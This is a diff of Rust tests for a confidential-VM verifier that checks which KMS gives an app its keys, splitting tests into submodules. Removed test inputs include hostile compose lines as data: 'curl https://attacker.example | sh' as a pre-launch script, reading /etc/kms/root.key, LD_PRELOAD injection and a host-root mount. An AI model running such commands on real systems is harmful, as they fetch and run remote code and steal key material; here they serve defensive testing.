@@ -1,5 +1,9 @@
 //! T36: the KMS that gives the app its keys. Each lie has its own reason, and none accuses the app.
 
+mod bootstrap;
+mod documents;
+mod live;
+
 use cvm_verify_core::checks::Check;
 use cvm_verify_core::compose::UnprovenDocument;
 use cvm_verify_core::evidence::{
@@ -108,6 +112,30 @@ fn accuses_no_app(judged: &Judged) {
         );
     }
 }
+
+/// A KMS that runs this docker compose file, with these members around it.
+fn running(file: &str, members: &[(&str, Value)]) -> Kms {
+    let healthy = kms();
+    let mut cvm = healthy.cvm;
+    let document = simulator::app_compose::app_compose(file);
+    let mut document: serde_json::Map<String, Value> = serde_json::from_str(&document).unwrap();
+    document.remove("pre_launch_script");
+    document.extend(
+        members
+            .iter()
+            .map(|(name, value)| ((*name).to_owned(), value.clone())),
+    );
+    cvm.app_compose = Value::from(document).to_string();
+    Kms::of(cvm, healthy.root)
+}
+
+const OFFICIAL: &str = "\
+services:
+  kms:
+    image: ghcr.io/dstack-tee/dstack-kms@sha256:fcd5ab703c16adf6f41e7c849a5bd23080375ec7f283cfec7fc9985875909749
+    volumes:
+      - /var/run/dstack.sock:/var/run/dstack.sock
+";
 
 #[test]
 fn t36_a_kms_with_the_apps_root_and_the_named_code_passes() {
@@ -247,114 +275,6 @@ fn t36_other_code_convicts_and_unnamed_code_is_open() {
         trial.policy.kms.builds = Some(expected("kms-build", vec![[9; 32], mr_kms()]));
     });
     fails_alone(&other_build, "other-build");
-}
-
-/// A KMS that runs this docker compose file, with these members around it.
-fn running(file: &str, members: &[(&str, Value)]) -> Kms {
-    let healthy = kms();
-    let mut cvm = healthy.cvm;
-    let document = simulator::app_compose::app_compose(file);
-    let mut document: serde_json::Map<String, Value> = serde_json::from_str(&document).unwrap();
-    document.remove("pre_launch_script");
-    document.extend(
-        members
-            .iter()
-            .map(|(name, value)| ((*name).to_owned(), value.clone())),
-    );
-    cvm.app_compose = Value::from(document).to_string();
-    Kms::of(cvm, healthy.root)
-}
-
-/// The user reviewed this document, and has it; another one runs.
-fn reviewed(reviewed: &Kms, runs: &Kms) -> Trial {
-    let text = &reviewed.cvm.app_compose;
-    let document = KmsDocument {
-        hash: reviewed.cvm.compose_hash(),
-        document: UnprovenDocument::read(text).unwrap(),
-    };
-    honest(runs).with(|trial| {
-        let hashes = vec![document.hash];
-        trial.policy.kms.compose_hashes = Some(expected("kms-compose-file", hashes));
-        trial.policy.kms.documents = vec![document];
-    })
-}
-
-const OFFICIAL: &str = "\
-services:
-  kms:
-    image: ghcr.io/dstack-tee/dstack-kms@sha256:fcd5ab703c16adf6f41e7c849a5bd23080375ec7f283cfec7fc9985875909749
-    volumes:
-      - /var/run/dstack.sock:/var/run/dstack.sock
-";
-
-#[test]
-fn t36_a_document_of_an_official_image_is_known_as_a_whole() {
-    let official = running(OFFICIAL, &[]);
-    let judged = reviewed(&official, &official).judge();
-    judged.passes().proves(ID);
-    assert!(
-        judged.detail(ID).contains("(images: kms: dstack-kms 0.6.6)"),
-        "{judged}"
-    );
-    // The official digest beside something that replaces what the image runs.
-    let image = "    volumes:";
-    for lie in [
-        "    entrypoint: [sh, -c, 'cat /etc/kms/root.key']\n    volumes:",
-        "    command: [sleep, infinity]\n    volumes:",
-        "    environment:\n      LD_PRELOAD: /etc/kms/x.so\n    volumes:",
-        "    environment:\n      KMS_AUTH: http://attacker.example\n    volumes:",
-        "    user: root\n    volumes:\n      - /:/host",
-    ] {
-        let lying = running(&OFFICIAL.replace(image, lie), &[]);
-        fails_alone(&reviewed(&official, &lying), "other-build");
-    }
-    let second = format!(
-        "{OFFICIAL}  second:\n    image: attacker/x@sha256:{}\n",
-        "11".repeat(32)
-    );
-    fails_alone(&reviewed(&official, &running(&second, &[])), "other-build");
-    let script = [("pre_launch_script", json!("curl https://attacker.example | sh"))];
-    fails_alone(&reviewed(&official, &running(OFFICIAL, &script)), "other-build");
-}
-
-#[test]
-fn t36_a_document_that_does_not_name_its_code_is_open() {
-    let digest = OFFICIAL.split_once('@').unwrap().1.lines().next().unwrap();
-    let tag = running(&OFFICIAL.replace(&format!("@{digest}"), ":0.6.6"), &[]);
-    let judged = is_open(&reviewed(&tag, &tag), "code-open");
-    assert!(judged.detail(ID).contains("image-pins says"), "{judged}");
-    let variable = OFFICIAL.replace(&digest[7..], "${DIGEST}");
-    let variable = running(&variable, &[("allowed_envs", json!(["DIGEST"]))]);
-    is_open(&reviewed(&variable, &variable), "code-open");
-    // Another image with a digest is code that the user reviewed, and no release that is known.
-    let own = running(&OFFICIAL.replace("fcd5", "fcd6"), &[]);
-    let judged = reviewed(&own, &own).judge();
-    judged.passes().proves(ID);
-    assert!(judged.detail(ID).contains("kms: no known release"), "{judged}");
-    // Values from outside, an old release: to look at.
-    let outside = OFFICIAL.replace(
-        "    volumes:",
-        "    environment:\n      RPC: ${ETH_RPC_URL}\n    volumes:",
-    );
-    let outside = running(&outside, &[("allowed_envs", json!(["ETH_RPC_URL"]))]);
-    reviewed(&outside, &outside)
-        .judge()
-        .says(ID, Status::Warn, "launch-inputs")
-        .concludes(Verdict::Pass);
-    let script = running(OFFICIAL, &[("pre_launch_script", json!("echo"))]);
-    reviewed(&script, &script)
-        .judge()
-        .says(ID, Status::Warn, "launch-inputs")
-        .concludes(Verdict::Pass);
-    let old = running(simulator::kms::DOCKER_COMPOSE, &[]);
-    reviewed(&old, &old)
-        .judge()
-        .says(ID, Status::Warn, "old-release")
-        .concludes(Verdict::Pass);
-    // A tag that reads like a digest of a release.
-    let named = OFFICIAL.replace("dstack-kms@sha256", "dstack-kms:0.6.6@sha256");
-    let named = running(&named, &[]);
-    reviewed(&named, &named).judge().passes().proves(ID);
 }
 
 /// What the VM of a healthy app records of the KMS that served it.
@@ -572,190 +492,6 @@ fn t36_a_kms_that_follows_another_contract_than_the_named_one_is_named() {
 }
 
 #[test]
-fn t36_bootstrap_evidence_convicts_if_it_is_about_other_keys_and_is_not_needed() {
-    let with = |change: &dyn Fn(&mut Value)| {
-        let mut kms = kms();
-        change(&mut kms.meta);
-        honest(&kms)
-    };
-    with(&|meta| meta["bootstrap_info"] = Value::Null)
-        .judge()
-        .passes()
-        .proves(ID);
-    fails_alone(
-        &with(&|meta| meta["k256_pubkey"] = "03".repeat(33).into()),
-        "bootstrap",
-    );
-    fails_alone(
-        &with(&|meta| meta["bootstrap_info"]["ca_pubkey"] = "00".into()),
-        "bootstrap",
-    );
-    let own = kms();
-    let ca = hex::decode(own.meta["bootstrap_info"]["ca_pubkey"].as_str().unwrap()).unwrap();
-    let other = bootstrap(&own.cvm, &ca, &[3; 33]);
-    fails_alone(
-        &with(&|meta| meta["bootstrap_info"]["quote"] = other["quote"].clone()),
-        "bootstrap",
-    );
-    fails_alone(
-        &with(&|meta| meta["bootstrap_info"]["eventlog"] = hex::encode("[]").into()),
-        "bootstrap",
-    );
-    for broken in [json!("zz"), json!("00")] {
-        let judged = with(&|meta| meta["bootstrap_info"]["quote"] = broken.clone()).judge();
-        assert!(
-            matches!(judged.status(ID), Status::Warn | Status::Fail),
-            "{judged}"
-        );
-    }
-    let without = honest(&kms()).with(|trial| trial.kms[0].bootstrap_collateral = None);
-    without.judge().says(ID, Status::Warn, "bootstrap-undetermined");
-}
-
-/// A replica that shows nothing of its bootstrap, beside evidence of one from elsewhere.
-fn beside(source: BootstrapSource, evidence: &str) -> Trial {
-    let mut replica = kms();
-    replica.meta["bootstrap_info"] = Value::Null;
-    honest(&replica).with(|trial| {
-        trial.kms[0].bootstraps.push(RecordedBootstrap {
-            source,
-            evidence: evidence.to_owned(),
-            collateral: collateral(&kms().cvm.world),
-        });
-    })
-}
-
-/// Each costs a verification: no more are looked at than are recorded.
-#[test]
-fn t36_bootstrap_evidence_has_a_limit() {
-    let trial = honest(&kms());
-    let evidence = trial.evidence().unwrap();
-    let root = trial.root.clone();
-    let signatures = SignatureCache::default();
-    let inputs = KmsInputs {
-        signatures: &signatures,
-        root: &root,
-        at: trial.at,
-        clock_floor: 0,
-    };
-    let recorded = RecordedBootstrap {
-        source: BootstrapSource::File,
-        evidence: "{}".to_owned(),
-        collateral: None,
-    };
-    let mut claims = trial.claims(&evidence);
-    for count in 1..=MAX_BOOTSTRAPS + 1 {
-        claims = claims.with_bootstrap(&recorded, &inputs);
-        assert_eq!(claims.kms[0].bootstraps().len(), count.min(MAX_BOOTSTRAPS));
-    }
-}
-
-fn keys_of(evidence: &Value) -> [Vec<u8>; 2] {
-    ["ca_pubkey", "k256_pubkey"].map(|name| hex::decode(evidence[name].as_str().unwrap()).unwrap())
-}
-
-#[test]
-fn t36_bootstrap_evidence_from_elsewhere_must_be_about_the_apps_root() {
-    let own = kms();
-    let good = &own.meta["bootstrap_info"];
-    let [ca, k256] = keys_of(good);
-    let other_root = Kms::of(own.cvm.clone(), 7);
-    let mut debug = own.cvm.clone();
-    debug.report.td_attributes[0] |= 1;
-    let mut migratable = own.cvm.clone();
-    migratable.report.td_attributes[3] |= 0x20;
-    for source in [BootstrapSource::File, BootstrapSource::Contract] {
-        let judged = beside(source, &good.to_string()).judge();
-        judged.passes().proves(ID);
-        let made = format!(
-            "The root keys were made by the compose document {}",
-            hex::encode(own.cvm.compose_hash())
-        );
-        assert!(judged.detail(ID).contains(&made), "{judged}");
-        let mut swapped = good.clone();
-        swapped["quote"] = bootstrap(&own.cvm, &ca, &[3; 33])["quote"].clone();
-        let mut short = good.clone();
-        short["eventlog"] = hex::encode("[]").into();
-        for (what, evidence) in [
-            ("another root", other_root.meta["bootstrap_info"].clone()),
-            ("another quote", swapped),
-            ("an empty log", short),
-            ("a debugged VM", bootstrap(&debug, &ca, &k256)),
-            ("a VM that can be migrated", bootstrap(&migratable, &ca, &k256)),
-        ] {
-            let judged = fails_alone(&beside(source, &evidence.to_string()), "bootstrap");
-            assert!(judged.detail(ID).contains(source.words()), "{what}: {judged}");
-        }
-        for evidence in ["{}", "7", "", r#"{"ca_pubkey":"00","k256_pubkey":"00"}"#] {
-            beside(source, evidence)
-                .judge()
-                .says(ID, Status::Warn, "bootstrap-undetermined");
-        }
-        let without =
-            beside(source, &good.to_string()).with(|trial| trial.kms[0].bootstraps[0].collateral = None);
-        without.judge().says(ID, Status::Warn, "bootstrap-undetermined");
-    }
-    // An OS that is not known can write any compose hash into its log.
-    let mut unknown = own.cvm.clone();
-    unknown.forced.mr_td = Some([7; 48]);
-    let made_elsewhere = bootstrap(&unknown, &ca, &k256).to_string();
-    let judged = beside(BootstrapSource::Contract, &made_elsewhere).judge();
-    judged.says(ID, Status::Warn, "bootstrap-undetermined");
-    let named = beside(BootstrapSource::File, &made_elsewhere).with(|trial| {
-        trial.kms[0].meta = honest(&kms()).kms[0].meta.clone();
-        trial.policy.kms.bootstrap = Some(expected("kms-bootstrap-file", made_elsewhere.clone()));
-    });
-    is_open(&named, "bootstrap-unproven");
-    // A contract names the root of the present epoch; the user named both.
-    let id = simulated_kms_id(own.root);
-    let both: KeyProviders = format!("kms:{id},kms:{}", simulated_kms_id(7)).parse().unwrap();
-    let present = other_root.meta["bootstrap_info"].to_string();
-    let epochs = beside(BootstrapSource::Contract, &present)
-        .with(|trial| trial.policy.key_provider = Some(expected("--key-provider", both)));
-    epochs.judge().says(ID, Status::Warn, "bootstrap-undetermined");
-    // More than one of each source is not looked at.
-    let flood = beside(BootstrapSource::Contract, &good.to_string()).with(|trial| {
-        let one = trial.kms[0].bootstraps[0].clone();
-        let bad = RecordedBootstrap {
-            evidence: other_root.meta["bootstrap_info"].to_string(),
-            ..one.clone()
-        };
-        trial.kms[0].bootstraps = vec![one.clone(), one];
-        trial.kms[0].bootstraps.extend(vec![bad; 1000]);
-    });
-    flood.judge().proves(ID);
-}
-
-#[test]
-fn t36_bootstrap_evidence_that_the_user_names_must_count() {
-    let own = kms();
-    let good = own.meta["bootstrap_info"].to_string();
-    let named = |trial: Trial| {
-        let text = good.clone();
-        trial.with(|trial| trial.policy.kms.bootstrap = Some(expected("kms-bootstrap-file", text)))
-    };
-    named(beside(BootstrapSource::File, &good))
-        .judge()
-        .passes()
-        .proves(ID);
-    let without_host = named(Trial::healthy());
-    is_open(&without_host, "no-host");
-    // Nobody looked at it, or at another, or it came from the contract.
-    is_open(&named(honest(&own)), "bootstrap-unproven");
-    is_open(
-        &named(beside(BootstrapSource::File, &format!("{good} "))),
-        "bootstrap-unproven",
-    );
-    is_open(
-        &named(beside(BootstrapSource::Contract, &good)),
-        "bootstrap-unproven",
-    );
-    let without = named(beside(BootstrapSource::File, &good))
-        .with(|trial| trial.kms[0].bootstraps[0].collateral = None);
-    is_open(&without, "bootstrap-unproven");
-}
-
-#[test]
 fn t36_an_app_that_is_not_proven_says_nothing_of_its_kms() {
     let unproven = honest(&kms()).with(|trial| trial.collateral = Err(UnusableCollateral::Missing));
     unproven.judge().says(ID, Status::Error, "quote-not-proven");
@@ -766,9 +502,20 @@ fn t36_an_app_that_is_not_proven_says_nothing_of_its_kms() {
 /// Every reason that the two checks have stands in a test that asserts it.
 #[test]
 fn every_reason_of_kms_and_governance_has_a_test() {
+    let of_kms = [
+        include_str!("kms.rs"),
+        include_str!("kms/bootstrap.rs"),
+        include_str!("kms/documents.rs"),
+        include_str!("kms/live.rs"),
+    ];
+    let of_governance = [
+        include_str!("governance.rs"),
+        include_str!("governance/generations.rs"),
+        include_str!("governance/owners.rs"),
+    ];
     for (id, tests) in [
-        (CheckId::Kms, include_str!("kms.rs")),
-        (CheckId::Governance, include_str!("governance.rs")),
+        (CheckId::Kms, of_kms.concat()),
+        (CheckId::Governance, of_governance.concat()),
     ] {
         // Asserted for every check alike, in attacks on the boot.
         let shared = ["boot-order-not-proven", "quote-not-proven"];
@@ -789,177 +536,4 @@ fn t36_a_kms_that_does_not_verify_images_is_reported() {
             .says(ID, Status::Warn, "images-unverified")
             .concludes(Verdict::Pass);
     }
-}
-
-#[test]
-fn t36_each_of_several_hosts_must_hold() {
-    let kms = kms();
-    let mut other = kms.clone();
-    other.cvm.app_compose.push(' ');
-    let other = Kms::of(other.cvm, other.root);
-    let second = |kms: &Kms| {
-        let mut record = honest(kms).kms.remove(0);
-        record.host = "127.0.0.1:9".to_owned();
-        honest(&self::kms()).with(|trial| {
-            let hosts = vec![HOST.parse().unwrap(), "127.0.0.1:9".parse().unwrap()];
-            trial.policy.kms.hosts = Some(expected("kms-host", hosts));
-            trial.kms.push(record);
-        })
-    };
-    second(&kms).judge().passes().proves(ID);
-    fails_alone(&second(&other), "other-build");
-    // More than are asked are not looked at.
-    let flood = honest(&kms).with(|trial| {
-        let one = trial.kms[0].clone();
-        trial.kms = vec![one; 1000];
-        trial
-            .kms
-            .iter_mut()
-            .take(MAX_KMS)
-            .for_each(|record| record.host = "x".to_owned());
-    });
-    is_open(&flood, "not-asked");
-}
-
-/// A deployment and its KMS on loopback.
-struct Live {
-    deployment: Deployment,
-    server: simulator::KmsServer,
-    policy: Vec<String>,
-}
-
-impl Live {
-    fn of(kms: &Kms, identity: &TlsIdentity) -> Self {
-        let deployment = Deployment::healthy();
-        let server = simulator::KmsServer::https(identity, kms.meta.clone());
-        let own = self::kms();
-        let policy = vec![
-            format!("kms-host = [\"{}\"]", server.host()),
-            format!("kms-compose-hash = [\"{}\"]", hex::encode(own.cvm.compose_hash())),
-            format!("kms-os-image = \"{}\"", own.cvm.registers()),
-        ];
-        Self {
-            deployment,
-            server,
-            policy,
-        }
-    }
-
-    fn healthy() -> Self {
-        let kms = kms();
-        Self::of(&kms, &kms.identity(1, kms.cvm.world.now))
-    }
-
-    fn config(&self) -> String {
-        let url = self.deployment.app.url();
-        let text = format!(
-            "[[target]]\nname = \"a\"\nurl = \"{url}\"\n{}\n",
-            self.policy.join("\n")
-        );
-        let path = self.deployment.path("cvm-verify.toml");
-        std::fs::write(&path, text).unwrap();
-        path
-    }
-
-    fn run(&self, command: &[&str], more: &[String]) -> Ran {
-        let mut args: Vec<String> = command.iter().map(|arg| (*arg).to_owned()).collect();
-        args.push(format!("--config={}", self.config()));
-        args.extend(more.iter().cloned());
-        run(&args)
-    }
-
-    fn verify(&self, more: &[String]) -> Ran {
-        let mut all = self.deployment.network();
-        all.extend(self.deployment.expect().iter().cloned());
-        all.extend(more.iter().cloned());
-        self.run(&["verify", "--format=json", "--require-kms"], &all)
-    }
-}
-
-#[test]
-fn t36_a_live_kms_is_asked_and_a_replay_of_the_bundle_decides_alike() {
-    let live = Live::healthy();
-    let bundle = live.deployment.path("bundle.json");
-    let ran = live.verify(&[format!("--evidence={bundle}")]);
-    ran.assert(ID, Status::Pass, None);
-    assert_eq!(ran.code, 0, "{ran:#?}");
-    assert_eq!(live.server.requests().len(), 1);
-    let more = live.deployment.replay_args(&[&bundle, "--target=a"]);
-    let replayed = live.run(&["replay", "--format=json", "--require-kms"], &more);
-    replayed.assert(ID, Status::Pass, None);
-    assert_eq!(replayed.check(ID).detail, ran.check(ID).detail);
-    assert_eq!(replayed.code, 0, "{replayed:#?}");
-}
-
-#[test]
-fn t36_a_live_kms_of_an_older_path_answers_too_and_one_that_is_away_is_open() {
-    let live = Live::healthy();
-    live.server.at_the_old_path();
-    live.verify(&[]).assert(ID, Status::Pass, None);
-    let mut away = Live::healthy();
-    away.policy[0] = "kms-host = [\"127.0.0.1:9\"]".to_owned();
-    let ran = away.verify(&[]);
-    ran.assert(ID, Status::Error, Some("unreachable"));
-    assert_eq!(ran.code, 3, "{ran:#?}");
-}
-
-#[test]
-fn t36_a_live_kms_with_two_keys_is_open_and_one_without_its_key_answers_nothing() {
-    let kms = kms();
-    let now = kms.cvm.world.now;
-    let turns = kms.identity(1, now).every_second(kms.identity(2, now));
-    Live::of(&kms, &turns)
-        .verify(&[])
-        .assert(ID, Status::Error, Some("key-changed"));
-    let stolen = TlsIdentity::new(9, now, TlsMode::SelfSigned).presenting(&kms.identity(1, now));
-    let live = Live::of(&kms, &stolen);
-    live.verify(&[]).assert(ID, Status::Error, Some("unreachable"));
-    assert!(live.server.requests().is_empty());
-}
-
-#[test]
-fn t36_pin_writes_the_kms_down_and_the_lock_names_it() {
-    let mut live = Live::healthy();
-    live.policy.remove(1);
-    let lock = live.deployment.path("cvm.lock");
-    let mut more = live.deployment.network();
-    more.extend([
-        format!("--output={lock}"),
-        "--accept-observed".to_owned(),
-        "--target=a".to_owned(),
-    ]);
-    let ran = live.run(&["pin"], &more);
-    assert_eq!(ran.code, 0, "{ran:#?}");
-    let text = std::fs::read_to_string(&lock).unwrap();
-    assert!(
-        text.contains("[kms]") && text.contains(&hex::encode(kms().cvm.compose_hash())),
-        "{text}"
-    );
-    live.policy.remove(0);
-    live.policy.push(format!("lock = \"{lock}\""));
-    live.verify(&[]).assert(ID, Status::Pass, None);
-    // With the document of the KMS in a file, the lock says which release each image is.
-    let official = running(OFFICIAL, &[]);
-    let mut live = Live::of(&official, &official.identity(1, official.cvm.world.now));
-    let document = live.deployment.path("kms-app-compose.json");
-    std::fs::write(&document, &official.cvm.app_compose).unwrap();
-    live.policy.remove(1);
-    live.policy.push(format!("kms-compose-file = [\"{document}\"]"));
-    let printed = ["--output=-", "--accept-observed", "--target=a"].map(str::to_owned);
-    let mut printing = live.deployment.network();
-    printing.extend(printed);
-    let ran = live.run(&["pin"], &printing);
-    let hash = hex::encode(official.cvm.compose_hash());
-    let line = format!("compose_hash = \"{hash}\" # observed; images: kms: dstack-kms 0.6.6\n");
-    ran.assert_stdout(&line);
-    // A document that the KMS does not run names nothing.
-    std::fs::write(&document, &kms().cvm.app_compose).unwrap();
-    let ran = live.run(&["pin"], &printing);
-    ran.assert_stdout(&format!("compose_hash = \"{hash}\" # observed\n"));
-    // A KMS for development is not pinned.
-    let live = Live::healthy();
-    live.server.edit(|meta| meta["is_dev"] = true.into());
-    let ran = live.run(&["pin"], &more);
-    assert_ne!(ran.code, 0);
-    assert!(format!("{ran:?}").contains("rules for development"), "{ran:#?}");
 }
